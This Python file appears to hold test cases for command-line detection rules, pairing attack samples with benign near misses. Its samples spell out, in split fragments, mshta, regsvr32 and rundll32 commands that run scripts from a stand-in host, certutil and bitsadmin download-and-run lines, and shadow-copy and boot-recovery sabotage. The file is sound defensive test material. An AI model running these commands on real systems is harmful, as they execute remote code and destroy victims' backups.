"""Behaviour of the rules for command lines."""

from rules.bundle.samples import PROSE, Case, text, wide

CASES = {
    "Clearward_Command_Script_Proxy": Case(
        samples=(
            text("start msh", "ta.exe http://files.example/a.hta"),
            text(
                "msh",
                "ta vbscr",
                'ipt:Close(Execute("Set o = GetObject(""scr',
                'ipt:http://files.example/a.sct"")"))',
            ).replace(text('""'), text('"')),
            text("REGSVR", "32 /s /n /u /i:http://files.example/a.sct scr", "obj.dll"),
            wide(
                "rundll",
                "32.exe javascr",
                'ipt:"\\..\\mshtml,RunHTML',
                'Application ";document.write();new%20Active',
                'XObject("x")',
            ),
        ),
        near_misses=(
            text("regsvr32 /s /i C:\\Windows\\System32\\scrobj.dll"),
            text(
                "mshta C:\\Tools\\form.hta\r\n",
                "rundll32 url.dll,FileProtocolHandler http://intranet.example/",
            ),
            text(
                PROSE,
                "Attackers use mshta, regsvr32 and rundll32 to run scripts over http.",
            ),
        ),
    ),
    "Clearward_Command_Download_Run": Case(
        samples=(
            text(
                "certu",
                "til -urlca",
                "che -split -f http://files.example/a.txt %TEMP%\\a.exe & start %TE",
                "MP%\\a.exe",
            ),
            wide(
                "bitsad",
                "min /trans",
                "fer job http://files.example/a.exe C:\\Users\\Public\\a.exe && ",
                "C:\\Users\\Pub",
                "lic\\a.exe",
            ),
        ),
        near_misses=(
            text(
                "certutil -urlcache -f https://crl.example/root.crl root.crl & ",
                "certutil -dump root.crl",
            ),
            text(
                "bitsadmin /transfer job https://files.example/a.zip ",
                "C:\\Work\\a.zip\r\nset TEMP=%TEMP%\\x",
            ),
            text(
                PROSE,
                "Both certutil -urlcache and bitsadmin /transfer can fetch files.",
            ),
        ),
    ),
    "Clearward_Command_Recovery_Sabotage": Case(
        samples=(
            text(
                "vssadmin del",
                "ete shadows /all /quiet\r\nwmic shadow",
                "copy delete\r\n",
                "bcdedit /set {default} recovery",
                "enabled no\r\n",
            ),
            text(
                "bcdedit /set {default} bootstatus",
                "policy ignoreallfailures & bcdedit /set {default}",
                " recovery",
                "enabled No & wbad",
                "min d§elete catalog -quiet",
            ),
        ),
        near_misses=(
            text(
                "rem make room before the backup\r\n",
                "vssadmin del§ete shadows /for=c: /oldest\r\nwbadmin start backup",
            ),
            text(
                "bcdedit /set {current} recoveryenabled no\r\n",
                "bcdedit /set {current} b§ootstatuspolicy ignoreallfailures",
            ),
            text(
                PROSE,
                "Ransomware deletes shadow copies (vssadmin) and the backup ",
                "catalog (wbadmin).",
            ),
        ),
    ),
}
